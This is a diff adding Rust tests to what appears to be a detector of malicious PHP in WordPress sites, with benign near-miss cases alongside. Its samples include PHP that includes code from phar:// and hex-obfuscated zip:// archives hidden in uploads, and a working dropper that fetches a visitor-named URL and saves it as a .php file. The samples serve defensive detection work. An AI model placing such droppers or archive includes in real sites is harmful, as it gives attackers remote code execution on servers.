@@ -87,6 +87,14 @@ fn data_is_followed_through_functions_closures_properties_and_lists() {
         Why::AdminBackdoor,
     );
     assert_eq!(sinks("<?php include 'zip://' . __DIR__ . '/logo.jpg#x.php';"), [(Why::IncludeOfData, Danger::High)]);
+    // An archive kept in uploads, named through a variable (fresh27's mu-plugin).
+    let phar = "<?php $url = 'phar://./wp-content/uploads/2024/09/file.zip/file.php'; include($url);";
+    assert_eq!(sinks(phar), [(Why::IncludeOfData, Danger::High)]);
+    // A dropped zip's member, the path kept in a table of escaped texts (fresh28).
+    let zip = "<?php $i = array(\"\\x7a\\x69\\x70://fla_1.zip#b_1.tmp\", 'x'); @require_once $i[0];";
+    assert_eq!(sinks(zip), [(Why::IncludeOfData, Danger::High)]);
+    // A tool's own archive is not (`composer.phar` beside the script).
+    assert!(sinks("<?php require 'phar://' . __DIR__ . '/composer.phar/src/bootstrap.php';").is_empty());
     assert_eq!(sinks("<?php $o = new SplFileObject($_POST['f'], 'w');"), [(Why::UploadDropper, Danger::High)]);
     assert_eq!(sinks("<?php mail($_POST['to'], 's', 'b', $_POST['h']);"), [(Why::MailFromInput, Danger::High)]);
 }
@@ -1180,4 +1188,18 @@ fn function_names_cut_from_a_long_table_are_known() {
     // Near miss: the same table and cut, only printed.
     let shown = format!("<?php $t = '{table}'; $a = explode('x', substr($t, 4000, 22)); echo $a[0];");
     assert!(sinks(&shown).is_empty(), "{:?}", sinks(&shown));
+}
+
+#[test]
+fn a_download_saved_by_a_helper_under_the_visitors_name_is_a_dropper() {
+    // fresh27's wp-signin.php: what the visitor names is fetched with curl and saved by the
+    // file's own helper under the name the visitor sends.
+    let src = "<?php function fetch($u) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); return curl_exec($c); }\n\
+               function store($res, $dest) { @file_put_contents($dest . '.php', $res); }\n\
+               if (isset($_GET['source'], $_GET['dest'])) { @store(fetch($_GET['source']), $_GET['dest']); }";
+    assert_eq!(sinks(src), [(Why::UploadDropper, Danger::High)]);
+    // Near miss: the application's own feed saved under its own name.
+    let own = "<?php function fetch($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); return curl_exec($c); }\n\
+               function store($res, $dest) { file_put_contents($dest, $res); } store(fetch('https://feeds.example/news.xml'), 'cache/news.xml');";
+    assert!(sinks(own).is_empty(), "{:?}", sinks(own));
 }
